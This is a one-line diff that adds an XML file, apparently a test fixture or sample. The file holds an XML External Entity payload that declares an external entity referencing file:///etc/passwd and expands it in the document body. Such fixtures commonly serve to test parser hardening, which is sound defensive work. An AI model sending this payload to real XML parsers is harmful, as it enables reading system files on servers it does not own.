@@ -1,0 +1,1 @@
+<!DOCTYPE document [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><document>&e;</document>
